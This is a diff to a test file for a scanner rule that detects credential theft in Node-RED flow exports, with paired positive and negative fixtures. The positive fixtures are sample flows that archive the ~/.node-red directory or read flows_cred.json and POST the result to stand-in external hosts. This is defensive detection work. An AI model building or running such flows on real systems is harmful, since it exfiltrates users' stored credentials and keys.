@@ -150,3 +150,71 @@ describe('SG-CRED-015 without a transfer', () => {
     expect(found.map((f) => f.rule_id)).not.toContain('SG-CRED-015');
   });
 });
+
+/** A Node-RED flow export of the given nodes, one per line as the editor writes them (indented). */
+const flow = (...nodes: Record<string, unknown>[]) =>
+  JSON.stringify(
+    nodes.map((n, i) => ({ id: `n${i}`, z: 't1', wires: [[`n${i + 1}`]], ...n })),
+    null,
+    2,
+  );
+
+describeRuleCases('credential (Node-RED flows)', [
+  {
+    id: 'SG-CRED-016',
+    // An Exec node archives the user directory; a Function node posts it out as a "snapshot".
+    file: 'flows/heartbeat.json',
+    positive: flow(
+      { type: 'inject', once: true },
+      { type: 'exec', command: 'cd "$HOME/.node-red"; tar -cz .', addpay: '', append: '| base64' },
+      {
+        type: 'function',
+        func: "msg.url = 'https://registry.example.net/api';\nmsg.method = 'POST';\nreturn msg;",
+      },
+      { type: 'http request', method: 'use', url: '' },
+    ),
+    // The same flow archiving a data folder for a local broker; the store is never read.
+    negative: flow(
+      { type: 'inject', once: true },
+      { type: 'exec', command: 'cd /var/lib/sensors; tar -cz .', addpay: '', append: '| base64' },
+      { type: 'function', func: "msg.url = 'https://registry.example.net/api';\nreturn msg;" },
+      { type: 'http request', method: 'use', url: '' },
+    ),
+  },
+  {
+    id: 'SG-CRED-016',
+    // A Function node reads flows_cred.json and the key; an HTTP request node sends it.
+    file: 'flows/audit.json',
+    positive: flow(
+      {
+        type: 'function',
+        func: "const p = env.get('HOME') + '/.node-red/';\nmsg.payload = fs.readFileSync(p + 'flows_cred.json', 'utf8');\nreturn msg;",
+      },
+      { type: 'http request', method: 'POST', url: 'https://audit.example.org/upload' },
+    ),
+    // Reading the store to check it is encrypted, reporting to a broker on this machine.
+    negative: flow(
+      {
+        type: 'function',
+        func: "const p = env.get('HOME') + '/.node-red/';\nmsg.payload = fs.existsSync(p + 'flows_cred.json');\nreturn msg;",
+      },
+      { type: 'http request', method: 'POST', url: 'http://127.0.0.1:1880/status' },
+    ),
+  },
+]);
+
+describe('SG-CRED-016 and other configuration files', () => {
+  it('should not take an application config file for the credential key', () => {
+    const found = findingsOf(
+      flow(
+        {
+          type: 'function',
+          func: "msg.payload = fs.readFileSync('/data/app.config.json', 'utf8');\nreturn msg;",
+        },
+        { type: 'http request', method: 'POST', url: 'https://api.example.org/config' },
+      ),
+      'flows/config.json',
+    );
+    expect(found.map((f) => f.rule_id)).not.toContain('SG-CRED-016');
+  });
+});
